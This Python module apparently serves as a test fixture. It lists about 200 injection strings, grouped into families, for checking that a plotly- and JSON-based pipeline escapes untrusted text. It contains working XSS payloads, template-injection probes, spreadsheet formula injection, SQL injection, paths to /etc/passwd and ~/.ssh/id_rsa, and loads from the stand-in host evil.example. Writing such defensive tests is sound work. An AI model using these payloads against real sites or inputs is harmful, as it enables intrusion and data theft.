"""200 texts that try to be more than text: each that could run sets `window.PWNED` or calls `alert`.

A payload neither starts nor ends with white space, so that it can be looked for as it stands.
"""

from __future__ import annotations

from itertools import product

RUN = "window.PWNED=1"
IMG = "<img src=x onerror=alert(1)>"
SCRIPT = f"<script>{RUN}</script>"
AWAY = "https://evil.example"

ELEMENTS = (
    SCRIPT,
    f"<SCRIPT>{RUN}</SCRIPT>",
    f"<script type=module>{RUN}</script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<script src={AWAY}/x.js></script>",
    f"<script src=data:text/javascript,{RUN}></script>",
    IMG,
    f"<IMG SRC='x' ONERROR='{RUN}'>",
    f"<img src={AWAY}/pixel.png srcset='{AWAY}/2.png 2x'>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    f"<math><mi xlink:href='javascript:{RUN}'>x</mi></math>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>parent.PWNED=1</script>'></iframe>",
    f"<object data='data:text/html,<script>{RUN}</script>'></object>",
    f"<embed src='javascript:{RUN}'>",
    f"<style>@import url({AWAY}/x.css);</style>",
    "<style>body{display:none}</style>",
    f"<link rel=stylesheet href={AWAY}/x.css>",
    f"<base href={AWAY}/>",
    f"<meta http-equiv=refresh content='0;url={AWAY}'>",
    f"<form action={AWAY}><input name=q><button>go</button></form>",
    f"<button formaction='javascript:{RUN}'>go</button>",
    f"<input autofocus onfocus={RUN}>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<video><source onerror=alert(1) src=x></video>",
    f"<body onload={RUN}>",
    f"<a href='javascript:{RUN}'>go</a>",
    f"<template><img src=x onerror={RUN}></template>",
)
CLOSERS = (
    "</script>", "</style>", "</title>", "</textarea>", "</noscript>", "</table>", "</td></tr>", "</main></body>",
    "</details>", "</svg>", "-->", "--!>", "<!--", "<!--><script>", "]]>", "<![CDATA[", "*/", "?>",
)  # fmt: skip
QUOTES = ('"', "'", "`", '">', "'>", '" x=\'', '\\"', '"/')  # fmt: skip
HANDLERS = (
    "onmouseover=alert(1) x",
    f"autofocus onfocus={RUN} tabindex=1 x",
    f"style=background:url({AWAY}) x",
)
SCHEMES = (
    f"javascript:{RUN}",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    f"\x01javascript:{RUN}",
    f"javascript://%0a{RUN}",
    f"data:text/html,{SCRIPT}",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cuUFdORUQ9MTwvc2NyaXB0Pg==",
    f"vbscript:{RUN}",
    "//evil.example/x.js",
    f"blob:{AWAY}/1",
    "#event-1",
)
TEMPLATES = (
    "{{ 7*7 }}",
    "{{ self.__init__.__globals__ }}",
    "{{ title|safe }}",
    "{% raw %}",
    "{% for x in chapters %}{{ x }}{% endfor %}",
    "{%- include 'page.html.j2' -%}",
    "{# gone #}",
    "${alert(1)}",
    "`${window.PWNED=1}`",
    "#{7*7}",
    "<%= 7*7 %>",
    "%(title)s %s {0} {title}",
    "{{constructor.constructor('alert(1)')()}}",
    "[[7*7]]",
)
ENTITIES = (
    "&lt;img src=x onerror=alert(1)&gt;",
    "&#60;script&#62;window.PWNED=1&#60;/script&#62;",
    "&#x3c;svg onload=alert(1)&#x3e;",
    "&amp;lt;b&amp;gt;",
    "&ltimg src=x onerror=alert(1)&gt",
    "&quot; onmouseover=&quot;alert(1)",
    "javascript&colon;alert&lpar;1&rpar;",
    "a&NewLine;b&Tab;c&nbsp;d",
    "&#0; &#xD800; &#x110000;",
    "&notin; &copy &no-such;",
)
# Between letters, so that none is trimmed; each is followed by what would run if it cut the text in two.
CHARACTERS = (
    "\0", "\x08", "\x0c", "\x1b[31m", "\x7f", "\x85", "\r", "\r\n", "\n", "\t", "\u200b", "\u200d", "\u202e",
    "\u2066", "\u2069", "\u2028", "\u2029", "\ufeff", "\ufffe", "\ufffd",
)  # fmt: skip
LOOKALIKES = (
    f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e",
    f"<\u017fcript>{RUN}</\u017fcript>",
    "<\u0131mg src=x onerror=alert(1)>",
    f"\u02bc onmouseover={RUN} \u02ba",
    "z\u0335\u0327\u0321\u0322\u0300\u0301\u0302algo",
    "\u05e9\u05dc\u05d5\u05dd \u0645\u0631\u062d\u0628\u0627",
    "\U0001f9e8\U0001f468\u200d\U0001f469\u200d\U0001f467",
    "\u0130\u00df\ufb01\u01c5",
)
LONG = (
    "w" * 3000,
    "<" * 600,
    '"' * 600,
    "&" * 600,
    "very long words " * 150 + "end",
    "<b>" * 300,
)
FORMULAS = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example","go")',
    "+1+1",
    "-2+3",
    "@SUM(1,2)",
    "\x01=1+1",
)  # fmt: skip
PATHS = (
    "../../etc/passwd",
    "C:\\Windows\\system32",
    "file:///etc/passwd",
    "%2e%2e%2f%00.html",
    "~/.ssh/id_rsa",
)
# What plotly reads in texts, and what our own scripts read in the JSON of a figure.
CHARTS = (
    "<b>bold</b><br>next",
    f'<a href="javascript:{RUN}">go</a>',
    f"<a href='{AWAY}' target=_blank>go</a>",
    "<span style='color:red'>red</span><sub>1</sub>",
    "<extra></extra>",
    "%{text} %{x} %{y}",
    "$\\href{javascript:alert(1)}{x}$",
    f"</text><script>{RUN}</script>",
    "axis:0",
    "axis:__proto__",
    "var(--net)",
    f"url({AWAY}/#x)",
)  # fmt: skip
WORDS = (
    "__proto__",
    "constructor",
    "hasOwnProperty",
    "toString",
    "undefined",
    "null",
    "NaN",
    "-Infinity",
    "n/a: no reason",
    "content",
    "[object Object]",
)
JSON = (
    f'"}}];{RUN};//',
    f"'}});{RUN};//",
    "\\u003c/script\\u003e\\u003cimg src=x onerror=alert(1)\\u003e",
    f"\\x3cscript\\x3e{RUN}",
    "\\",
    f"}}*{{background:url({AWAY})}}",
    "'; DROP TABLE trades;--",
)

FAMILIES = {
    "element": ELEMENTS,
    "closer": tuple(end + then for end, then in product(CLOSERS, (IMG, SCRIPT))),
    "quote": tuple(f"a{quote} {handler}" for quote, handler in product(QUOTES, HANDLERS)),
    "scheme": SCHEMES,
    "template": TEMPLATES,
    "entity": ENTITIES,
    "character": tuple(f"a{character}b{IMG}" for character in CHARACTERS),
    "lookalike": LOOKALIKES,
    "long": LONG,
    "formula": FORMULAS,
    "path": PATHS,
    "chart": CHARTS,
    "word": WORDS,
    "json": JSON,
}
PAYLOADS = tuple(payload for family in FAMILIES.values() for payload in family)
IDS = tuple(f"{name}-{at}" for name, family in FAMILIES.items() for at in range(1, len(family) + 1))
